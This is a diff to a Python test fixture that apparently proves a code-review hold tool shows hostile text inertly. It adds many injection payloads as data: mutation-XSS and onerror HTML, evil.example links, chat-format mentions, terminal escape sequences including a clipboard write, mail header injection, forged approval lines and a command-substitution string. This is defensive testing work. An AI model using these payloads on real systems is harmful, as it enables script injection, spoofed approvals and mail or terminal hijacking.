@@ -1,4 +1,4 @@
-# Sixty texts that would be more than text where somebody reads a hold, and the proof that they are not.
+# Texts that would be more than text where somebody reads a hold, and the proof that they are not.
 #
 #	injections.py commit WORK PREFIX	a commit for each: in its path, content, subject and author's name
 #	injections.py page FILE			of HTML: elements and attributes of ours alone, nothing unseen
@@ -22,8 +22,23 @@ EVIL = [
     "\u05d0\u05d1\u05d2 approve \u0627\u0644", "a\u0300\u0301\u0302\u0303" * 20, "\U000e0041\U000e0042 tags", "\u2028\u2029line", "countersign: refs/heads/main is allowed: approved by bob",
     "-----END COUNTERSIGN HOLD-----", "Countersign-Decision: approve", "{{DATE(2026-01-01T00:00:00Z)}} ${x} %s%n", "'; DROP TABLE hold; --", "$(touch /tmp/evil)`id`",
     "x" * 4000, "\u4e00" * 300,
+    # what a format may have of its own besides: dates, emoji, headings, commands, cards, entities, and elements of later HTML
+    "<!date^1392734382^{date}^https://evil.example|now>", ":rotating_light: :white_check_mark:", "<t:0:R> <:x:803511102246789999> </approve:803511102246789999>",
+    "[approve](<https://evil.example> \"x\")", "[x]: https://evil.example\\n[x]", "# approved", "> quoted\\n>>> all", "~~no~~ _yes_ *bold*", "\\`\\`@everyone\\`",
+    "<at id=\"0\">everyone</at>", "{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}", "<template><script>alert(1)</script></template>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<object data=//evil.example>", "<embed src=//evil.example>", "<input formaction=//evil.example autofocus>", "<video><source onerror=alert(1)>", "<style>*{display:none}</style>",
+    "<plaintext>", "<xmp>", "<b id=decide>", "<img name=review>", "\xa0\xa0approve\xa0", "jav&#x09;ascript:alert(1)", "\uff1cscript\uff1e", "\u02bcx\u02ba",
+    # a terminal's: overwriting, other character sets, answers, queries, sixels, and lines drawn over others
+    "held\rapproved", "\x0eabc\x0f", "\x05\x1b[c\x1b[6n", "\x1bPq#0;2;0;0;0\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b[1A\x1b[2K", "\x1b7\x1b[999;999H\x1b8", "\x85next", "\x9b2J",
+    "\u3164\u115f\u1160", "\ufff9a\ufffab\ufffb", "\U0001d173\U0001d17a", "\u180e", "\u2061\u2062\u2063", "x\ufe0f\ufe0e", "\u206a\u206f", "\U000e0100", "\ufdd0\uffff",
+    # a mail's: headers, boundaries, encoded words, and what a relay obeys
+    "Bcc: evil@example.com", "=?UTF-8?B?PHNjcmlwdD4=?=", "--countersign", ".", "From evil", "Content-Type: text/html", "%0d%0aBcc: evil@example.com",
+    # ours: lines that only we write
+    "Countersign-Digest: " + "0" * 64, "-----BEGIN COUNTERSIGN HOLD-----", "-----BEGIN SSH SIGNATURE-----", "remote: countersign: when approved, push again", "repository 0\\nref 0",
+    "\\x1b[31m \\u{202e}", "\\\\x1b", "diff --git a/x b/x", "@@ -1 +1 @@", "\\ No newline at end of file", "Binary files differ",
 ]
-RAW = [b"\xff\xfe invalid \xc3\x28", b"\xed\xa0\x80 surrogate", b"\xf4\x90\x80\x80 beyond", b"\xc0\xafover", b"\x80\x9b31m"]
+RAW = [b"\xff", b"\xfe\xff\x00n\x00u\x00l", b"\xc0\x80", b"\xf8\x88\x80\x80\x80", b"\xe2\x80", b"\xc2", b"\xff\xfe invalid \xc3\x28", b"\xed\xa0\x80 surrogate", b"\xf4\x90\x80\x80 beyond", b"\xc0\xafover", b"\x80\x9b31m"]
 UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff\ufff0-\ufffb\U000e0000-\U000e0fff]")
 
 
